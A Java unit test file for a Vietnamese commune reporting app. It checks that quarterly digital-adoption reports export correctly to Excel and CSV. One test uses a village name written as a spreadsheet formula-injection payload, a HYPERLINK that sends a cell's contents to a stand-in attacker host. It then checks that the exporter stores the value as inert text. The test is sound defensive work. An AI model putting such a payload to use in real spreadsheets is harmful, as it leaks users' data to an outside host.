package vn.tramso.adoption;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.tramso.place.PlaceLevel;

/** The upward report's files, read back: Excel cell by cell with POI, and the CSV line by line. */
class ReportFilesTest {

    static final Figures A = figures(3, 14, 2, 3, 1, 2);
    static final Figures B = figures(0, 0, 0, 0, 0, 0);
    static final Report REPORT = new Report(new Area(PlaceLevel.COMMUNE, 7, "Xã Hồng Quang", null),
            Period.of(Period.Kind.QUARTER, LocalDate.of(2026, 12, 1)),
            List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", "Thôn Trà Phương", A), new ReportRow("Hưng Yên", "Xã Hồng Quang",
                    "Thôn Mới", B)), A, "lanhdao.hongquang", LocalDateTime.of(2026, 12, 20, 10, 30), LocalDateTime.of(2026, 12, 20, 10, 0));

    @Test
    void the_excel_file_says_what_it_is_and_holds_numbers_a_clerk_can_add_up() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ReportFiles.xlsx(REPORT, out);

        try (Workbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(text(sheet.getRow(0), 0)).isEqualTo("Báo cáo chuyển đổi số cộng đồng");
            assertThat(text(sheet.getRow(0), 1)).isEqualTo("Xã Hồng Quang");
            assertThat(text(sheet.getRow(1), 1)).isEqualTo("Quý 4/2026");
            assertThat(text(sheet.getRow(2), 1)).isEqualTo("lanhdao.hongquang");
            assertThat(text(sheet.getRow(3), 1)).isEqualTo("10:30 20/12/2026");
            assertThat(text(sheet.getRow(4), 1)).isEqualTo("10:00 20/12/2026");
            Row header = sheet.getRow(ReportFiles.HEADER_ROW);
            assertThat(List.of(text(header, 0), text(header, 1), text(header, 2), text(header, 3), text(header, 4), text(header, 5)))
                    .containsExactly("Tỉnh", "Xã", "Thôn", "Người lớn có VNeID mức 2 – tử số", "Người lớn có VNeID mức 2 – mẫu số",
                            "Người lớn có VNeID mức 2 – giá trị");
            assertThat(header.getLastCellNum()).isEqualTo((short) (3 + 3 * Indicator.values().length));

            Row tra = sheet.getRow(ReportFiles.HEADER_ROW + 1);
            assertThat(List.of(text(tra, 0), text(tra, 1), text(tra, 2))).containsExactly("Hưng Yên", "Xã Hồng Quang", "Thôn Trà Phương");
            assertThat(tra.getCell(3).getNumericCellValue()).isEqualTo(2);
            assertThat(tra.getCell(4).getNumericCellValue()).isEqualTo(3);
            assertThat(tra.getCell(5).getNumericCellValue()).isCloseTo(66.667, org.assertj.core.data.Offset.offset(0.001));
            int sessions = 3 + 3 * Indicator.SESSIONS.ordinal();
            assertThat(header.getCell(sessions).getStringCellValue()).isEqualTo("Buổi hỗ trợ – tử số");
            assertThat(tra.getCell(sessions).getNumericCellValue()).isEqualTo(3);

            Row empty = sheet.getRow(ReportFiles.HEADER_ROW + 2);
            assertThat(empty.getCell(4).getNumericCellValue()).isZero();
            assertThat(empty.getCell(5) == null || empty.getCell(5).getCellType() == org.apache.poi.ss.usermodel.CellType.BLANK)
                    .as("a share of nothing is left empty, not 0").isTrue();
            Row total = sheet.getRow(ReportFiles.HEADER_ROW + 3);
            assertThat(text(total, 0)).isEqualTo("Tổng cộng");
            assertThat(total.getCell(3).getNumericCellValue()).isEqualTo(2);
            assertThat(sheet.getLastRowNum()).isEqualTo(ReportFiles.HEADER_ROW + 3);
        }
    }

    @Test
    void the_csv_has_the_same_columns_in_utf8_with_a_byte_order_mark() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ReportFiles.csv(REPORT, out);
        String csv = out.toString(StandardCharsets.UTF_8);

        assertThat(csv).startsWith("\uFEFFBáo cáo chuyển đổi số cộng đồng,Xã Hồng Quang");
        List<String> lines = csv.lines().toList();
        assertThat(lines.get(6)).startsWith("Tỉnh,Xã,Thôn,Người lớn có VNeID mức 2 – tử số,");
        assertThat(lines.get(7)).startsWith("Hưng Yên,Xã Hồng Quang,Thôn Trà Phương,2,3,66.7,");
        assertThat(lines.get(8)).startsWith("Hưng Yên,Xã Hồng Quang,Thôn Mới,0,0,,");
        assertThat(ReportFiles.fileName(REPORT, "csv")).isEqualTo("tram-so-xa-hong-quang-q4-2026.csv");
    }

    @Test
    void kiosk_visits_and_guides_finished_are_columns_of_both_files() throws Exception {
        Figures withKiosk = A.withKiosk(new vn.tramso.usage.UsageFigures.Visits(12, 5));
        Report report = new Report(REPORT.area(), REPORT.period(), List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", "Thôn Trà Phương",
                withKiosk)), withKiosk, "lanhdao.hongquang", REPORT.madeAt(), REPORT.dataAsOf());
        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        ReportFiles.xlsx(report, xlsx);
        int visits = 3 + 3 * Indicator.KIOSK_VISITS.ordinal();
        int finished = 3 + 3 * Indicator.GUIDES_FINISHED.ordinal();
        try (Workbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            Row header = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW);
            Row tra = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW + 1);
            assertThat(header.getCell(visits).getStringCellValue()).isEqualTo("Lượt dùng kiosk – tử số");
            assertThat(tra.getCell(visits).getNumericCellValue()).isEqualTo(12);
            assertThat(header.getCell(finished + 2).getStringCellValue()).isEqualTo("Hướng dẫn làm xong – giá trị");
            assertThat(tra.getCell(finished + 2).getNumericCellValue()).isEqualTo(5);
        }
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        ReportFiles.csv(report, csv);
        List<String> lines = csv.toString(StandardCharsets.UTF_8).lines().toList();
        assertThat(lines.get(6).split(",", -1)[visits]).isEqualTo("Lượt dùng kiosk – tử số");
        assertThat(lines.get(7).split(",", -1)[visits]).isEqualTo("12");
        assertThat(lines.get(7).split(",", -1)[finished]).isEqualTo("5");
    }

    @Test
    void a_village_named_as_a_formula_is_text_in_both_files() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Thôn Trà Phương\")";
        Report report = new Report(REPORT.area(), REPORT.period(), List.of(new ReportRow("Hưng Yên", "Xã Hồng Quang", hyperlink, A)),
                A, "lanhdao.hongquang", REPORT.madeAt(), REPORT.dataAsOf());
        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        ReportFiles.csv(report, csv);
        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        ReportFiles.xlsx(report, xlsx);

        assertThat(csv.toString(StandardCharsets.UTF_8).lines().toList().get(7))
                .startsWith("Hưng Yên,Xã Hồng Quang,\"'=HYPERLINK(").contains(",2,3,66.7,");
        try (Workbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            var cell = book.getSheetAt(0).getRow(ReportFiles.HEADER_ROW + 1).getCell(2);
            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(hyperlink);
        }
    }

    private static String text(Row row, int cell) {
        return row.getCell(cell).getStringCellValue();
    }

    /** Sessions, people, adults with level 2, adults, households, digital households; the rest 0. */
    private static Figures figures(long sessions, long people, long vneid2, long adults, long households, long digital) {
        return new Figures(sessions, people, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, adults, vneid2, vneid2, households, digital,
                0, 0, 0, 1, sessions == 0 ? 1 : 0, 0, 0, 0, 0);
    }
}
